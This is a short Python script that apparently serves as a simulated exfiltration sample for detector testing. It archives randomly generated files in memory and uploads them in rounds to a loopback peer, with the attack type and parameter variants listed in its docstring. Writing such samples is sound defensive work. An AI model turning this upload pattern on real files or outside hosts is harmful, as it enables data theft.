"""Collects its own made files into an archive in memory and uploads them to the loopback peer.

attack_type: exfiltration
severity: 0.8
arguments: FILES ROUNDS PAUSE_S
variants: 120 4 0.8 | 40 14 0.3 | 300 2 2.0
"""

import io
import os
import random
import sys
import tarfile
import time
import urllib.request
from pathlib import Path

files, rounds, pause = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
draw = random.Random(2)
Path("work").mkdir()
for number in range(files):
    Path(f"work/{number}.doc").write_bytes(draw.randbytes(40000))
for _ in range(rounds):
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz", compresslevel=1) as tar:
        tar.add("work")
    url = f"http://127.0.0.1:{os.environ['PEER']}/drop"
    urllib.request.urlopen(url, data=archive.getvalue()).read()
    time.sleep(pause)
